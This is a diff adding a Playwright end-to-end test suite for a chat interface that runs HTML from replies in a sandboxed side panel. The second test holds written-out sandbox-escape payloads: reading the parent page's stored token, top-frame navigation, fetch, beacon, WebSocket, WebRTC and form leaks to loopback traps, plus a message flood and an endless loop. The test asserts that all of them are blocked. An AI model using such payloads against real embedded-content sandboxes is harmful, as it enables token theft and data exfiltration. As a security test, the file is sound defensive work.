@@ -1,0 +1,168 @@
+import { createSocket } from "node:dgram";
+import { createServer, type AddressInfo } from "node:net";
+import type { FrameLocator, Locator } from "@playwright/test";
+import { expect, test } from "../support/journey.ts";
+import type { ChatPage } from "../support/pages/chat-page.ts";
+
+const fence = (html: string): string => `\`\`\`html\n${html}\n\`\`\``;
+
+/** Loopback listeners that nothing may reach: what came in, by its kind. */
+async function startTraps() {
+  const reached: string[] = [];
+  const tcp = createServer((socket) => {
+    reached.push("a connection");
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
+  const udp = createSocket("udp4");
+  udp.on("message", () => reached.push("a packet"));
+  await new Promise<void>((resolve) => udp.bind(0, "127.0.0.1", resolve));
+  return {
+    reached,
+    tcpPort: (tcp.address() as AddressInfo).port,
+    udpPort: udp.address().port,
+    close() {
+      tcp.close();
+      udp.close();
+    },
+  };
+}
+
+/** The parts of the panel in a page. */
+function panelOf(chat: ChatPage): { panel: Locator; frame: FrameLocator; report: Locator } {
+  const panel = chat.page.locator("aside");
+  return {
+    panel,
+    frame: panel.frameLocator("iframe"),
+    report: panel.getByRole("log", { name: chat.text("run.report") }),
+  };
+}
+
+test("HTML of a reply runs in the panel, again on wish, says what goes wrong, and goes with the place [REND-007] [SHELL-055] [SHELL-043]", async ({
+  chat,
+  upstream,
+  calls,
+  question,
+  consoleWatch,
+}) => {
+  calls.expect({ answer: 1 });
+  // The error of the script that runs there, and the refusal of what it asks for.
+  consoleWatch.allow(/this one is known/, /Content Security Policy/);
+  const { page } = chat;
+  const page1 = "<h1>It runs</h1><button onclick=\"this.textContent='pressed'\">press</button>";
+  const page2 =
+    "<script src='https://cdn.example/x.js'></script><p>second</p><script>throw new Error('this one is known')</script>";
+  upstream.script({
+    match: { user: question, kind: "answer" },
+    answer: `${fence(page1)}\n\n${fence(page2)}\n\n\`\`\`js\nlet a = 1;\n\`\`\`\n\nDone.`,
+  });
+  await chat.send(question);
+  await chat.finished();
+  const run = chat.lastReply.getByRole("button", { name: chat.text("markdown.run"), exact: true });
+  await expect(run).toHaveCount(2);
+  const { panel, frame, report } = panelOf(chat);
+
+  await run.first().press("Enter");
+  await expect(panel.getByRole("heading", { name: chat.text("run.title") })).toBeVisible();
+  await expect(panel).toBeFocused();
+  await frame.getByRole("button", { name: "press" }).click();
+  await expect(frame.getByText("pressed")).toBeVisible();
+  await panel.getByRole("button", { name: chat.text("run.again") }).click();
+  await expect(frame.getByRole("button", { name: "press", exact: true })).toBeVisible();
+  await expect(report).toBeEmpty();
+
+  await run.last().click();
+  await expect(frame.getByText("second")).toBeVisible();
+  await expect(report).toContainText("this one is known");
+  await expect(report).toContainText("cdn.example");
+
+  await panel.getByRole("button", { name: chat.text("common.close") }).click();
+  await expect(panel).toHaveCount(0);
+  await expect(run.last()).toBeFocused();
+
+  // Where there is no room beside the chat the panel lies over it, and the sidebar, opened by hand, gives way.
+  await page.setViewportSize({ width: 900, height: 700 });
+  await page.getByRole("button", { name: chat.text("sidebar.expand") }).click();
+  const sidebar = page.getByRole("button", { name: chat.text("sidebar.collapse") });
+  await expect(sidebar).toBeVisible();
+  await run.first().click();
+  await expect(page.getByRole("dialog", { name: chat.text("run.title") })).toBeVisible();
+  await expect(page.getByRole("button", { name: chat.text("sidebar.expand") })).toBeAttached();
+  await expect(sidebar).toHaveCount(0);
+  await page.keyboard.press("Escape");
+  await expect(panel).toHaveCount(0);
+
+  await page.setViewportSize({ width: 1440, height: 900 });
+  await run.first().click();
+  await expect(frame.getByRole("button", { name: "press" })).toBeVisible();
+  await page.goBack();
+  await expect(panel).toHaveCount(0);
+});
+
+test("what runs in the panel reaches neither our page nor anything outside, and a loop in it freezes nothing", async ({
+  chat,
+  upstream,
+  calls,
+  question,
+  consoleWatch,
+}) => {
+  calls.expect({ answer: 1 });
+  // Everything that is tried here is refused, most of it aloud.
+  consoleWatch.allow(/./);
+  const { page } = chat;
+  const traps = await startTraps();
+  const outside = `http://127.0.0.1:${traps.tcpPort}`;
+  const peer = `new RTCPeerConnection({iceServers:[{urls:"stun:127.0.0.1:${traps.udpPort}"}]})`;
+  const call = `let c=${peer};c.createDataChannel("x");c.createOffer().then(o=>c.setLocalDescription(o))`;
+  const done = `setTimeout(()=>document.body.append("tried"),250)`;
+  const tries = [
+    `try{top.document.title="reached"}catch{} try{top.location="${outside}/top"}catch{} ${done}`,
+    `try{document.title=parent.localStorage.getItem("plumb.token")}catch{} try{localStorage.x=1}catch{} ${done}`,
+    `fetch("${outside}/f").catch(()=>{});new Image().src="${outside}/i";navigator.sendBeacon("${outside}/b");try{new WebSocket("ws://127.0.0.1:${traps.tcpPort}")}catch{} open("${outside}/open");${done}`,
+    `try{${call}}catch{} ${done}`,
+    `const f=document.createElement("iframe");document.body.append(f);try{f.contentWindow.eval(${JSON.stringify(call)})}catch{} try{const R=f.contentWindow.RTCPeerConnection;RTCPeerConnection=R;${call}}catch{} ${done}`,
+    `const l=document.createElement("link");l.rel="preconnect";l.href="${outside}";document.head.append(l);${done}`,
+    `for(let n=0;n<10000;n++)parent.postMessage({kind:"error",text:"e"+n},"*")`,
+  ].map((script) => `<body><script>${script}</script></body>`);
+  const leaving = [
+    `<script>location="${outside}/nav?"+document.title</script>`,
+    `<meta http-equiv="refresh" content="0;url=${outside}/meta">`,
+    `<iframe src="${outside}/frame"></iframe><form action="${outside}/form"></form><script>document.forms[0].submit()</script>`,
+  ];
+  const loop = "<p>looping</p><script>for(;;){}</script>";
+  upstream.script({
+    match: { user: question, kind: "answer" },
+    answer: [...tries, ...leaving, loop].map(fence).join("\n\n"),
+  });
+  await chat.send(question);
+  await chat.finished();
+  const title = await page.title();
+  const run = chat.lastReply.getByRole("button", { name: chat.text("markdown.run"), exact: true });
+  const { panel, frame } = panelOf(chat);
+  for (const index of tries.keys()) {
+    await run.nth(index).click();
+    if (index < tries.length - 1) await expect(frame.getByText("tried")).toBeVisible();
+    else await expect(panel.getByText(chat.text("run.stopped"))).toBeVisible();
+  }
+  await expect(panel.locator("iframe")).toHaveCount(0);
+  for (const [index] of leaving.entries()) {
+    const refused = page.waitForEvent("console", {
+      predicate: (line) => /Security Policy|sandboxed/.test(line.text()),
+    });
+    await run.nth(tries.length + index).click();
+    await refused;
+  }
+
+  // A page in a process of its own: ours takes presses while that one turns for ever.
+  await run.last().click();
+  await expect(panel.locator("iframe")).toBeVisible();
+  await chat.composer.fill("still here");
+  await expect(chat.composer).toHaveValue("still here");
+  await panel.getByRole("button", { name: chat.text("run.again") }).click();
+  await panel.getByRole("button", { name: chat.text("common.close") }).click();
+  await expect(panel).toHaveCount(0);
+  await chat.composer.fill("");
+  expect(await page.title()).toBe(title);
+  expect(traps.reached).toEqual([]);
+  traps.close();
+});
